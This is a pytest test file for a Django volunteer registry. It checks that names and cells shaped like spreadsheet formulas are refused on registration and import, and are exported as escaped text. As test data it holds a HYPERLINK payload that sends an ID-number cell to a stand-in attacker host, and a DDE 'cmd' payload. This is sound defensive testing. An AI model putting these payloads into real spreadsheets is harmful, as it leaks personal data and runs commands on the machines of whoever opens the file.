"""Spreadsheet formula injection (OWASP "CSV injection"): user text is never a live formula.

A registrant named `=HYPERLINK("http://…?d="&F2,"…")` once landed in the office's full-ID
roster export as a clickable link carrying the ID number in F2; the import's error report
wrote raw cells the same way, and a .csv row with such a name was imported.
"""

from __future__ import annotations

import io

import pytest
from openpyxl import load_workbook

from zhiyuan.spreadsheets import services
from zhiyuan.spreadsheets.writing import XlsxBook, csv_bytes
from zhiyuan.testing.factories import PASSWORD, id_number
from zhiyuan.volunteers.models import Volunteer

pytestmark = pytest.mark.django_db
ATTACK = '=HYPERLINK("http://evil.example/?d="&F2,"点此查看")'
TRIGGERS = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1"]


def cells(content: bytes):
    book = load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def test_a_registrant_named_like_a_formula_is_refused(cast, client):
    response = client.post(
        "/api/v1/volunteers",
        {
            "real_name": ATTACK,
            "id_number": id_number(200),
            "phone": "13900000200",
            "community_id": cast.a1.pk,
            "consent": True,
            "password": PASSWORD,
        },
        content_type="application/json",
    )
    assert response.status_code == 400
    assert "real_name" in response.json()["errors"]
    assert not Volunteer.objects.filter(real_name=ATTACK).exists()


def test_a_csv_row_named_like_a_formula_is_not_imported(cast):
    rows = [
        ["姓名", "身份证号", "手机号", "社区"],
        [ATTACK.replace(",", "，"), id_number(201), "13900000201", "新兴社区"],
    ]
    data = ("\r\n".join(",".join(r) for r in rows) + "\r\n").encode("utf-8")
    job = services.create_job(actor=cast.alice, name="r.csv", data=data, consent_confirmed=True)
    services.start_job(actor=cast.alice, job=job)
    job = services.run_job(job.pk)
    assert (job.imported, job.errors) == (0, 1)
    assert not Volunteer.objects.filter(real_name__startswith="=").exists()


def test_a_formula_like_name_already_stored_is_exported_as_text(
    cast, client_for, django_capture_on_commit_callbacks, settings, tmp_path
):
    """Names stored before the rule (or by any other way in) are written as text."""
    settings.DATA_DIR = tmp_path
    Volunteer.objects.filter(pk=cast.carol.pk).update(real_name=ATTACK)
    client = client_for(cast.alice)
    with django_capture_on_commit_callbacks(execute=True):
        started = client.post("/imports/exports/roster/", {"reveal": "on", "reason": "核对名册"})
    response = client.get(started["Location"] + "download/")
    assert response.status_code == 200
    content = b"".join(response.streaming_content)  # a revealed file is unsealed as it is sent
    found = [cell for cell in cells(content) if cell.value == ATTACK]
    assert found, "the name is in the export"
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in found)
    assert not [cell for cell in cells(content) if cell.data_type == "f"]


def test_the_import_error_report_writes_raw_cells_as_text(cast):
    rows = [
        ["姓名", "身份证号", "手机号", "社区"],
        ["王小明", id_number(202), "13900000202", "=cmd|' /C calc'!A0"],
    ]
    data = ("\r\n".join(",".join(r) for r in rows) + "\r\n").encode("utf-8")
    job = services.create_job(actor=cast.alice, name="r.csv", data=data, consent_confirmed=True)
    services.start_job(actor=cast.alice, job=job)
    job = services.run_job(job.pk)
    report = cells(job.error_report.open("rb").read())
    found = [cell for cell in report if cell.value == "=cmd|' /C calc'!A0"]
    assert found and all(cell.data_type == "s" and cell.quotePrefix for cell in found)
    assert not [cell for cell in report if cell.data_type == "f"]


@pytest.mark.parametrize("text", TRIGGERS)
def test_every_trigger_is_text_in_xlsx(text):
    book = XlsxBook()
    book.sheet("名单", ["姓名"], title=text).append([text])
    written = [cell for cell in cells(book.save()) if cell.value is not None]
    assert written and all(cell.data_type == "s" for cell in written)
    assert all(cell.quotePrefix for cell in written if cell.value[:1] in "=+-@")


@pytest.mark.parametrize("text", TRIGGERS)
def test_every_trigger_is_escaped_in_csv(text):
    content = csv_bytes(["姓名"], [[text]]).decode("utf-8-sig")
    assert f"'{text}" in content
